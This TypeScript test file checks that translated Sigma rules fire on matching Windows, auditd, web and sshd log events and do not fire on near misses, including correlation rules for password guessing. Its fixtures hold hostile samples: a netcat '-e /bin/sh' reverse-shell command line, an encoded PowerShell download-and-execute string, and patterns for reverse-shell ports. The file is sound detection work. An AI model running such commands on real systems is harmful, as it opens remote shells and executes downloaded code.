// Imported Sigma rules run in our engine: events built by our own parsers from what the
// shippers send (Winlogbeat, NXLog, auditd, nginx, sshd syslog), a matching event fires the
// rule and a near miss does not. Rules go through prepareRule, events through replayRule.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { replayRule } from '../../../src/engine/correlation/engine.ts';
import { toEngineEvent, type EngineEvent } from '../../../src/engine/correlation/event.ts';
import { prepareRule, describeProblem } from '../../../src/engine/rules/load.ts';
import { prepareParsed } from '../../../src/engine/normalize/from-parse.ts';
import { parseDocument, parseLine } from '../../../src/engine/parse/index.ts';
import { translateSigma, type DocumentResult } from '../../../src/engine/sigma/index.ts';

const REF = Date.UTC(2026, 2, 15, 12, 0, 0);
let seq = 0;

function engineEvent(result: ReturnType<typeof parseLine>, raw: Record<string, unknown>, atMs: number): EngineEvent {
  const p = prepareParsed({ result, raw, nowMs: atMs });
  seq++;
  return toEngineEvent({ ...p, timeMs: atMs, id: seq.toString(16).padStart(24, '0'), scenario_run_id: null });
}
const fromDoc = (doc: Record<string, unknown>, atMs = REF) => engineEvent(parseDocument(doc, { referenceMs: REF }), doc, atMs);
const fromLine = (line: string, atMs = REF) => engineEvent(parseLine(line, { referenceMs: REF }), { message: line }, atMs);

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
function winlogbeat(id: number, channel: string, data: Record<string, unknown>): Record<string, unknown> {
  return {
    '@timestamp': '2026-03-15T11:00:00.000Z',
    host: { name: 'wks-0042.corp.example' },
    message: `Event ${id}`,
    winlog: { channel, provider_name: channel === SYSMON ? 'Microsoft-Windows-Sysmon' : 'Microsoft-Windows-Security-Auditing', computer_name: 'WKS-0042', event_id: String(id), event_data: data },
  };
}
function nxlog(id: number, channel: string, data: Record<string, unknown>): Record<string, unknown> {
  return { EventTime: '2026-03-15 11:00:00', Hostname: 'WKS-0042', EventID: id, SourceName: 'Microsoft-Windows-Security-Auditing', Channel: channel, Message: `Event ${id}`, ...data };
}

/** Every rule of the YAML text, translated and compiled; the last one is returned. */
function compile(yaml: string) {
  const results = translateSigma([{ name: 'rule.yml', content: yaml }]);
  const r = results.at(-1)!;
  assert.equal(r.outcome, 'translated', r.outcome === 'refused' ? r.reason : '');
  const rule = (r as DocumentResult & { outcome: 'translated' }).rule;
  const prepared = prepareRule({ id: 'f'.repeat(24), name: rule.name, rule_type: rule.rule_type, conditions: rule.conditions, severity: rule.severity, mitre_tactic: rule.mitre_tactic, mitre_technique: rule.mitre_technique });
  if (!prepared.ok) assert.fail(`${describeProblem(prepared.error)} in ${JSON.stringify(rule.conditions)}`);
  return prepared.rule;
}
const fires = (yaml: string, events: EngineEvent[]) => replayRule(compile(yaml), events, 0).length;

const ENCODED_PS = `title: Encoded PowerShell
id: 30000000-0000-4000-8000-000000000001
logsource: { product: windows, category: process_creation }
detection:
  selection_img:
    - Image|endswith: ['\\powershell.exe', '\\pwsh.exe']
    - OriginalFileName: PowerShell.EXE
  selection_cli:
    CommandLine|windash|contains: ' -enc '
  filter_parent:
    ParentImage|endswith: '\\explorer.exe'
  condition: all of selection_* and not 1 of filter_*
level: high
`;

describe('imported Sigma rules in the engine', () => {
  it('process creation: Sysmon 1 (Winlogbeat) and Security 4688 (NXLog) fire; another parent or no switch does not', () => {
    const sysmon = (cli: string, parent: string) => fromDoc(winlogbeat(1, SYSMON, { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: cli, ParentImage: parent, User: 'CORP\\alice' }));
    assert.equal(fires(ENCODED_PS, [sysmon('powershell.exe /ENC SQBFAFgA', 'C:\\Windows\\System32\\cmd.exe')]), 1);
    assert.equal(fires(ENCODED_PS, [sysmon('powershell.exe /ENC SQBFAFgA', 'C:\\Windows\\explorer.exe')]), 0);
    assert.equal(fires(ENCODED_PS, [sysmon('powershell.exe -File x.ps1', 'C:\\Windows\\System32\\cmd.exe')]), 0);
    const security = nxlog(4688, 'Security', { NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell -enc SQBFAFgA', ParentProcessName: 'C:\\Windows\\System32\\services.exe' });
    assert.equal(fires(ENCODED_PS, [fromDoc(security)]), 1);
  });

  it('registry_set (Sysmon 13): event data fields; another key does not fire', () => {
    const yaml = `title: Run key
id: 30000000-0000-4000-8000-000000000002
logsource: { product: windows, category: registry_set }
detection:
  selection:
    TargetObject|contains: '\\CurrentVersion\\Run\\'
    Details|contains|all: ['AppData', '.exe']
  condition: selection
level: medium
`;
    const ev = (key: string) => fromDoc(winlogbeat(13, SYSMON, { EventType: 'SetValue', Image: 'C:\\x.exe', TargetObject: key, Details: 'C:\\Users\\a\\AppData\\Roaming\\evil.exe' }));
    assert.equal(fires(yaml, [ev('HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\evil')]), 1);
    assert.equal(fires(yaml, [ev('HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\evil')]), 0);
    // The same data in a process-creation event is not a registry event.
    assert.equal(fires(yaml, [fromDoc(winlogbeat(1, SYSMON, { Image: 'C:\\x.exe', TargetObject: 'x\\CurrentVersion\\Run\\y', Details: 'AppData\\a.exe' }))]), 0);
  });

  it('network_connection: port and cidr', () => {
    const yaml = `title: Reverse shell port
id: 30000000-0000-4000-8000-000000000003
logsource: { product: windows, category: network_connection }
detection:
  selection:
    DestinationPort: [4444, 1337]
  filter_internal:
    DestinationIp|cidr: ['10.0.0.0/8', '192.168.0.0/16']
  condition: selection and not filter_internal
level: high
`;
    const ev = (ip: string, port: string) => fromDoc(winlogbeat(3, SYSMON, { Image: 'C:\\nc.exe', DestinationIp: ip, DestinationPort: port, SourceIp: '10.1.1.1', SourcePort: '50000', Protocol: 'tcp', Initiated: 'true' }));
    assert.equal(fires(yaml, [ev('203.0.113.7', '4444')]), 1);
    assert.equal(fires(yaml, [ev('10.2.3.4', '4444')]), 0);
    assert.equal(fires(yaml, [ev('203.0.113.7', '443')]), 0);
  });

  it('Security service: EventID and an event data field, by NXLog too', () => {
    const yaml = `title: Logon failure of a service account
id: 30000000-0000-4000-8000-000000000004
logsource: { product: windows, service: security }
detection:
  selection:
    EventID: 4625
    TargetUserName|startswith: svc_
  condition: selection
level: medium
`;
    assert.equal(fires(yaml, [fromDoc(nxlog(4625, 'Security', { TargetUserName: 'svc_backup', IpAddress: '198.51.100.2', LogonType: '3' }))]), 1);
    assert.equal(fires(yaml, [fromDoc(winlogbeat(4625, 'Security', { TargetUserName: 'SVC_SQL', IpAddress: '198.51.100.2' }))]), 1);
    assert.equal(fires(yaml, [fromDoc(winlogbeat(4624, 'Security', { TargetUserName: 'svc_backup' }))]), 0);
    assert.equal(fires(yaml, [fromDoc(winlogbeat(4625, 'System', { TargetUserName: 'svc_backup' }))]), 0);
  });

  it('base64offset|contains finds the text inside an encoded command line', () => {
    const yaml = `title: Encoded IEX
id: 30000000-0000-4000-8000-000000000005
logsource: { product: windows, category: process_creation }
detection:
  selection:
    CommandLine|base64offset|contains: 'IEX (New-Object Net.WebClient)'
  condition: selection
level: high
`;
    const cmd = (text: string) => fromDoc(winlogbeat(1, SYSMON, { Image: 'C:\\ps.exe', CommandLine: `powershell -e ${Buffer.from(text).toString('base64')}` }));
    for (const prefix of ['', 'a', 'ab']) assert.equal(fires(yaml, [cmd(`${prefix}IEX (New-Object Net.WebClient).DownloadString("x")`)]), 1, `offset ${prefix.length}`);
    assert.equal(fires(yaml, [cmd('Write-Host hello world, nothing to see')]), 0);
  });

  it('re is case-sensitive; re|i is not', () => {
    const yaml = (flags: string) => `title: Regex
id: 30000000-0000-4000-8000-000000000006
logsource: { product: windows, category: process_creation }
detection:
  selection:
    CommandLine|re${flags}: 'Invoke-[A-Z][a-z]+Shell'
  condition: selection
level: high
`;
    const ev = (cli: string) => fromDoc(winlogbeat(1, SYSMON, { Image: 'C:\\ps.exe', CommandLine: cli }));
    assert.equal(fires(yaml(''), [ev('x Invoke-PowerShell y')]), 1);
    assert.equal(fires(yaml(''), [ev('x invoke-powershell y')]), 0);
    assert.equal(fires(yaml('|i'), [ev('x invoke-powershell y')]), 1);
  });

  it('Linux process creation from auditd EXECVE records', () => {
    const yaml = `title: Netcat with exec
id: 30000000-0000-4000-8000-000000000007
logsource: { product: linux, category: process_creation }
detection:
  selection:
    CommandLine|contains: ' -e '
    CommandLine|startswith: ['nc ', 'ncat ']
  condition: selection
level: high
`;
    const line = (args: string) => `type=EXECVE msg=audit(1773572400.123:4242): argc=3 ${args}`;
    assert.equal(fires(yaml, [fromLine(line('a0="nc" a1="-e" a2="/bin/sh" a3="10.0.0.1"'))]), 1);
    assert.equal(fires(yaml, [fromLine(line('a0="nc" a1="-lvp" a2="4444"'))]), 0);
    assert.equal(fires(yaml, [fromLine(line('a0="ncat" a1="-l" a2="4444"'))]), 0);
  });

  it('web server access logs: method, URI and status', () => {
    const yaml = `title: WordPress login brute force page
id: 30000000-0000-4000-8000-000000000008
logsource: { category: webserver }
detection:
  selection:
    cs-method: POST
    c-uri|contains: /wp-login.php
    sc-status: 200
  condition: selection
level: low
`;
    const access = (method: string, status: number) => `203.0.113.5 - - [15/Mar/2026:11:00:00 +0000] "${method} /blog/wp-login.php HTTP/1.1" ${status} 512 "-" "curl/8.0"`;
    assert.equal(fires(yaml, [fromLine(access('POST', 200))]), 1);
    assert.equal(fires(yaml, [fromLine(access('GET', 200))]), 0);
    assert.equal(fires(yaml, [fromLine(access('POST', 403))]), 0);
  });

  it('keywords on sshd syslog lines (service sshd)', () => {
    const yaml = `title: SSH protocol probe
id: 30000000-0000-4000-8000-000000000009
logsource: { product: linux, service: sshd }
detection:
  keywords:
    - 'Bad protocol version identification'
    - 'Did not receive identification string'
  condition: keywords
level: low
`;
    assert.equal(fires(yaml, [fromLine('Mar 15 11:00:00 bastion sshd[1234]: Did not receive identification string from 203.0.113.9 port 41000')]), 1);
    assert.equal(fires(yaml, [fromLine('Mar 15 11:00:00 bastion sshd[1234]: Accepted publickey for alice from 203.0.113.9 port 41000 ssh2')]), 0);
    assert.equal(fires(yaml, [fromLine('Mar 15 11:00:00 bastion nginx[77]: Did not receive identification string')]), 0, 'another program');
  });

  it('correlation event_count: ten failed logons from one address fire, nine do not', () => {
    const yaml = `title: Failed logon
id: 30000000-0000-4000-8000-00000000000a
name: failed_logon
logsource: { product: windows, service: security }
detection:
  selection: { EventID: 4625 }
  condition: selection
---
title: Password guessing
id: 30000000-0000-4000-8000-00000000000b
correlation:
  type: event_count
  rules: [failed_logon]
  group-by: [IpAddress]
  timespan: 5m
  condition: { gte: 10 }
level: high
`;
    const fail = (i: number, ip: string) => fromDoc(winlogbeat(4625, 'Security', { TargetUserName: `u${i}`, IpAddress: ip }), REF + i * 1000);
    const nine = Array.from({ length: 9 }, (_, i) => fail(i, '198.51.100.9'));
    assert.equal(fires(yaml, nine), 0);
    assert.equal(fires(yaml, [...nine, fail(9, '198.51.100.9')]), 1);
    assert.equal(fires(yaml, [...nine, fail(9, '198.51.100.10')]), 0, 'the tenth from another address');
  });

  it('correlation temporal: any order fires; temporal_ordered needs the order', () => {
    const base = `title: Failed logon
id: 30000000-0000-4000-8000-00000000000c
name: failed
logsource: { product: windows, service: security }
detection: { selection: { EventID: 4625 }, condition: selection }
---
title: Logon
id: 30000000-0000-4000-8000-00000000000d
name: success
logsource: { product: windows, service: security }
detection: { selection: { EventID: 4624 }, condition: selection }
---
title: Failure and success
id: 30000000-0000-4000-8000-00000000000e
correlation:
  rules: [failed, success]
  group-by: [TargetUserName]
  timespan: 10m
`;
    const ev = (id: number, at: number) => fromDoc(winlogbeat(id, 'Security', { TargetUserName: 'bob', IpAddress: '198.51.100.4' }), REF + at * 1000);
    const reversed = [ev(4624, 0), ev(4625, 30)];
    assert.equal(fires(`${base}  type: temporal\n`, reversed), 1);
    assert.equal(fires(`${base}  type: temporal_ordered\n`, reversed), 0);
    assert.equal(fires(`${base}  type: temporal_ordered\n`, [ev(4625, 0), ev(4624, 30)]), 1);
  });
});
